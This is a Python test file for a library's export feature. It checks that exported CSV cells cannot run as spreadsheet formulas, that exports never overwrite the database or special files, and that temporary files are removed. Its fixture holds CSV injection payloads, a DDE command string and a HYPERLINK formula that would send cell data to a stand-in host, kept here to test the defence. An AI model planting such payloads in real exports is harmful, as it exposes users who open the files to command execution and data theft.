"""What an export must never do: replace the library or anything that is not a plain file, leave
temporary files behind, or write CSV cells a spreadsheet would run as formulas."""

import csv
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from curator.core.entities import tag_mention
from curator.core.export import (
    ExportError,
    check_export_target,
    ExportFormat,
    export_library,
    neutralise_cell,
)
from curator.core.text import restore_cell
from curator.core.library.store import Library
from tests.factories import add_article

# The first characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SIGNED_NUMBER = re.compile(r"[+-][0-9]+(?:\.[0-9]+)?")


def readme_restore(cell: str) -> str:
    """The README's rule for getting the stored text back from a neutralised cell."""
    return cell[1:] if re.match(r"'+[=+\-@\t\r]", cell) else cell


def could_run(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and not SIGNED_NUMBER.fullmatch(cell)


def read_csv_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))[1:]


def library_bytes(library: Library) -> bytes:
    assert library.path is not None
    return library.path.read_bytes()


# CSV cells -----------------------------------------------------------------------------------

FORMULA_TEXT = st.tuples(st.text("'", max_size=3), st.sampled_from(FORMULA_STARTS + ("",)), st.text()).map("".join)


@settings(max_examples=300)
@given(st.one_of(st.text(), FORMULA_TEXT))
def test_no_neutralised_cell_can_run_and_the_text_comes_back_exactly(text):
    cell = neutralise_cell(text)
    assert isinstance(cell, str)
    assert not could_run(cell)
    assert readme_restore(cell) == text and restore_cell(cell) == text
    if not could_run(text) and not re.match(r"'+[=+\-@\t\r]", text):
        assert cell == text  # only what needs it is touched


@given(st.integers(), st.floats(allow_nan=False))
def test_numbers_and_signed_numbers_in_text_are_left_as_they_are(integer, number):
    assert neutralise_cell(integer) == integer and neutralise_cell(number) == number
    assert neutralise_cell(str(integer)) == str(integer)
    assert neutralise_cell("-12.50") == "-12.50" and neutralise_cell("+3") == "+3"
    assert neutralise_cell("-12 cmd") == "'-12 cmd" and neutralise_cell("-1e5") == "'-1e5"


@pytest.fixture
def hostile_library(library):
    """Articles and an entity whose text would run in a spreadsheet."""
    body = "=cmd|' /C calc'!A0 is what the body begins with."
    first = add_article(library, body, title='=HYPERLINK("http://example.invalid/?"&A1,"x")', outlet="@evil")
    add_article(library, "+SUM(1,2) is a formula.", title="-2+3 cmd", outlet="\tTabbed", byline="-42")
    tag_mention(library, first, 0, 4, type="ORG", name="=HYPERLINK(1)")
    return library


def test_articles_and_entities_csv_hold_no_formula_and_jsonl_stays_exact(hostile_library, tmp_path):
    export_library(hostile_library, tmp_path / "a.csv", ExportFormat.CSV)
    export_library(hostile_library, tmp_path / "e.csv", ExportFormat.ENTITIES)
    export_library(hostile_library, tmp_path / "a.jsonl", ExportFormat.JSONL)
    cells = [cell for name in ("a.csv", "e.csv") for row in read_csv_rows(tmp_path / name) for cell in row]
    assert cells and not [cell for cell in cells if could_run(cell)]
    articles = read_csv_rows(tmp_path / "a.csv")
    assert articles[0][1] == '\'=HYPERLINK("http://example.invalid/?"&A1,"x")'
    assert "-42" in articles[1]  # a signed number stays a number
    [entity] = read_csv_rows(tmp_path / "e.csv")
    assert entity[1] == "'=HYPERLINK(1)"
    records = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text().splitlines()]
    assert [r["title"] for r in records] == ['=HYPERLINK("http://example.invalid/?"&A1,"x")', "-2+3 cmd"]
    assert records[1]["outlet"] == "\tTabbed"


def test_raw_csv_writes_the_cells_as_stored(hostile_library, tmp_path):
    export_library(hostile_library, tmp_path / "a.csv", ExportFormat.CSV, raw_csv=True)
    export_library(hostile_library, tmp_path / "e.csv", ExportFormat.ENTITIES, raw_csv=True)
    assert read_csv_rows(tmp_path / "a.csv")[1][1] == "-2+3 cmd"
    assert read_csv_rows(tmp_path / "e.csv")[0][1] == "=HYPERLINK(1)"


# Targets an export must not replace ------------------------------------------------------------

@pytest.mark.parametrize("suffix", ["", "-wal", "-shm", "-journal"])
@pytest.mark.parametrize("format", [ExportFormat.CSV, ExportFormat.JSONL, ExportFormat.ENTITIES])
def test_the_library_and_the_files_beside_it_are_refused(library, suffix, format):
    add_article(library, "A body that must survive.")
    target = Path(str(library.path) + suffix)
    before = target.read_bytes() if target.exists() else None
    with pytest.raises(ExportError, match="never writes there"):
        export_library(library, target, format)
    assert (target.read_bytes() if target.exists() else None) == before
    assert Library.open(library.path).count_articles() == 1


def test_a_link_to_the_library_or_a_hard_link_is_refused(library, tmp_path):
    before = library_bytes(library)
    (tmp_path / "link.csv").symlink_to(library.path)
    os.link(library.path, tmp_path / "hard.csv")
    for target in (tmp_path / "link.csv", tmp_path / "hard.csv"):
        with pytest.raises(ExportError, match="the library being exported"):
            export_library(library, target, ExportFormat.CSV)
    assert library_bytes(library) == before and (tmp_path / "link.csv").is_symlink()


def test_another_sqlite_database_and_the_files_beside_it_are_refused_and_kept(library, tmp_path):
    other = tmp_path / "other.db"
    connection = sqlite3.connect(other)
    connection.execute("CREATE TABLE kept (x)")
    connection.commit()
    connection.close()
    before = other.read_bytes()
    with pytest.raises(ExportError, match="is a SQLite database"):
        export_library(library, other, ExportFormat.JSONL)
    for suffix in ("-wal", "-shm", "-journal"):
        with pytest.raises(ExportError, match="beside the database other.db; an export never writes there"):
            export_library(library, tmp_path / f"other.db{suffix}", ExportFormat.JSONL)
    assert other.read_bytes() == before
    assert sorted(path.name for path in tmp_path.glob("other*")) == ["other.db"]
    # Beside a file that is not a database, such a name is only a name.
    (tmp_path / "notes.txt").write_text("notes")
    export_library(library, tmp_path / "notes.txt-wal", ExportFormat.JSONL)
    assert (tmp_path / "notes.txt-wal").exists()


def test_a_pipe_is_refused_without_being_opened(library, tmp_path):
    fifo = tmp_path / "out.csv"
    os.mkfifo(fifo)  # opening it to write would block until someone reads
    with pytest.raises(ExportError, match="not a regular file"):
        export_library(library, fifo, ExportFormat.CSV)
    assert fifo.is_fifo() and [path.name for path in tmp_path.glob(".out.csv*")] == []


@pytest.mark.parametrize("device", ["/dev/null", "link"])
def test_a_device_is_refused_and_the_node_kept(library, tmp_path, device):
    target = Path("/dev/null") if device == "/dev/null" else tmp_path / "null.jsonl"
    if device == "link":
        target.symlink_to("/dev/null")
    with pytest.raises(ExportError, match="not a regular file"):
        export_library(library, target, ExportFormat.JSONL)
    assert Path("/dev/null").is_char_device()


def test_a_folder_is_refused(library, tmp_path):
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(ExportError, match="is a folder"):
        export_library(library, tmp_path / "folder.csv", ExportFormat.CSV)


# Temporary files --------------------------------------------------------------------------------

def parts(folder: Path) -> list[str]:
    return sorted(path.name for path in folder.glob(".*.part"))


def test_an_interrupt_removes_the_temporary_file(library, tmp_path):
    add_article(library, "A body.")

    def interrupt(done: int, total: int, label: str) -> None:
        assert parts(tmp_path) != []  # the temporary file is there while writing
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        export_library(library, tmp_path / "out.jsonl", ExportFormat.JSONL, progress=interrupt)
    assert parts(tmp_path) == [] and not (tmp_path / "out.jsonl").exists()


EXPORT_THEN_HANG = textwrap.dedent("""
    import sys, time
    from curator.core.export import ExportFormat, export_library
    from curator.core.library.store import Library

    def hang(done, total, label):
        print("writing", flush=True)
        time.sleep(120)

    export_library(Library.open(sys.argv[1]), sys.argv[2], ExportFormat.JSONL, progress=hang)
""")


def test_what_a_killed_export_left_is_removed_by_the_next_one(library, tmp_path):
    add_article(library, "A body.")
    target = tmp_path / "out.jsonl"
    exporter = subprocess.Popen([sys.executable, "-c", EXPORT_THEN_HANG, str(library.path), str(target)],
                                stdout=subprocess.PIPE, text=True)
    assert exporter.stdout is not None and exporter.stdout.readline() == "writing\n"
    os.kill(exporter.pid, signal.SIGKILL)
    exporter.wait(timeout=30)
    exporter.stdout.close()
    [left] = parts(tmp_path)
    assert left.startswith(f".out.jsonl.{exporter.pid}-")
    # A part of a process still running (this one) is another export at work: it is left alone.
    running = tmp_path / f".out.jsonl.{os.getpid()}-0123abcd.part"
    running.write_text("another export, still writing")
    unrelated = tmp_path / ".out.jsonl.notes.part"
    unrelated.write_text("not an export's")

    export_library(library, target, ExportFormat.JSONL)

    assert parts(tmp_path) == sorted([running.name, unrelated.name])
    assert len(target.read_text().splitlines()) == 1


def test_a_link_is_followed_and_the_file_it_names_replaced(library, tmp_path):
    add_article(library, "Ships docked in the harbour at dawn on Monday.", title="Harbour")
    (tmp_path / "exports").mkdir()
    target = tmp_path / "exports" / "articles.jsonl"
    target.write_text("old\n")
    link = tmp_path / "latest.jsonl"
    link.symlink_to(Path("exports") / "articles.jsonl")
    export_library(library, link, ExportFormat.JSONL)
    assert link.is_symlink() and json.loads(target.read_text())["title"] == "Harbour"
    assert parts(tmp_path) == [] and parts(tmp_path / "exports") == []


@pytest.mark.skipif(not Path("/dev/stdout").exists(), reason="/dev/stdout, a link to a process's open file")
def test_standard_output_is_refused_whatever_it_is_sent_to(library):
    # Asked of the check alone: were it let through, the export would replace the system's link.
    with pytest.raises(ExportError, match="open file|not a regular file"):
        check_export_target(library, Path("/dev/stdout"))
    assert Path("/dev/stdout").is_symlink()


def test_an_exported_csv_imports_back_with_its_cells_as_they_were(hostile_library, tmp_path):
    export_library(hostile_library, tmp_path / "articles.csv", ExportFormat.CSV)
    again = Library.open(tmp_path / "again.db")
    try:
        from curator.core.ingest import import_paths

        assert import_paths(again, [tmp_path / "articles.csv"]).files_imported == 1
        # (An import takes the spaces off a one-line field's ends: "\tTabbed" comes back "Tabbed".)
        fields = "title, trim(outlet, char(9)), byline, body"
        assert again.db.execute(f"SELECT {fields} FROM articles ORDER BY id").fetchall() == \
            hostile_library.db.execute(f"SELECT {fields} FROM articles ORDER BY id").fetchall()
    finally:
        again.close()
